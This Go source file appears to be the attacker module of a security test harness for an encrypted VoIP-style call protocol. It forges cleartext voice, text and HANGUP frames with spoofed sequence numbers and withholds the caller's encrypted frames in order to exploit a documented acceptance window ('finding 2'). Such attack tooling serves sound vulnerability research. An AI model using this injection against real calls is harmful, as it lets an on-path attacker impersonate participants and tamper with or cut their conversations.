package attacker

import (
	"time"
)

// injectState is the state of the two injection modes.
type injectState struct {
	scheduled     bool
	withholdStart time.Time
}

// maybeScheduleInject arms the rounds of ModeInject once both sides have
// sent InjectAfter encrypted frames: by then each has opened the other's,
// so any cleartext frame of the call is an injection.
func (a *Attacker) maybeScheduleInject(now time.Time) {
	c := &a.call
	if a.inject.scheduled || !c.valid() || c.calleeCall == 0 ||
		c.sealed[dirFromCaller] < uint64(a.set.InjectAfter) || c.sealed[dirFromCallee] < uint64(a.set.InjectAfter) {
		return
	}
	a.inject.scheduled = true
	rounds := a.set.InjectRounds
	for i := 0; i < rounds; i++ {
		last := i == rounds-1
		a.after(now.Add(time.Duration(i)*a.set.injectInterval), func(now time.Time) [][]byte {
			out := a.forge(now, dirFromCaller, i, last)
			return append(out, a.forge(now, dirFromCallee, i, last)...)
		})
	}
}

// handleWithhold drops the caller's encrypted frames for WithholdMS after
// the first one and meanwhile forges frames "from the caller" to the
// callee, which has not yet opened a frame of the caller: the window in
// which today's engine still takes cleartext from the peer (finding 2).
func (a *Attacker) handleWithhold(now time.Time, p packet) [][]byte {
	dir, ok := p.sealedDir()
	if !ok || dir != dirFromCaller {
		return p.pass()
	}
	w := &a.inject
	if w.withholdStart.IsZero() {
		w.withholdStart = now
		d := a.set.withhold
		a.after(now.Add(d/4), func(now time.Time) [][]byte { return a.forge(now, dirFromCaller, 0, false) })
		a.after(now.Add(d/2), func(now time.Time) [][]byte { return a.forge(now, dirFromCaller, 1, false) })
		a.after(now.Add(3*d/4), func(now time.Time) [][]byte { return a.forge(now, dirFromCaller, 2, true) })
	}
	if now.Sub(w.withholdStart) < a.set.withhold {
		a.c.Withheld++
		a.c.Dropped++
		return nil
	}
	return p.pass()
}

// forge makes one round of cleartext frames of the call in direction dir
// (as if sent by that side): a voice mini frame and a text frame, and a
// HANGUP if hangup is set. Their sequence numbers acknowledge the ACCEPT,
// as frames sent after the switch would.
func (a *Attacker) forge(now time.Time, dir direction, round int, hangup bool) [][]byte {
	c := &a.call
	if !c.valid() || c.calleeCall == 0 {
		return nil
	}
	d := datagram{Src: c.caller, Dst: c.callee}
	seq := Seq{Src: c.callerCall, Dst: c.calleeCall, Timestamp: c.elapsedMS(now),
		OSeq: c.last[dirFromCaller].oseq + 1 + uint8(round), ISeq: c.acceptOSeq + 1}
	if dir == dirFromCallee {
		d = datagram{Src: c.callee, Dst: c.caller}
		seq = Seq{Src: c.calleeCall, Dst: c.callerCall, Timestamp: c.elapsedMS(now),
			OSeq: c.acceptOSeq + 1 + uint8(round), ISeq: c.last[dirFromCallee].iseq + 1}
	}
	frames := map[string][]byte{
		"mini": ForgeMini(seq.Src, uint16(seq.Timestamp)),
		"text": ForgeText(seq),
	}
	kinds := []string{"mini", "text"}
	if hangup {
		frames["hangup"] = ForgeHangup(seq)
		kinds = append(kinds, "hangup")
	}
	var out [][]byte
	for _, k := range kinds {
		b := a.build(d, frames[k])
		if b != nil {
			a.c.inject(k, dir.String())
		}
		out = append(out, b...)
	}
	return out
}
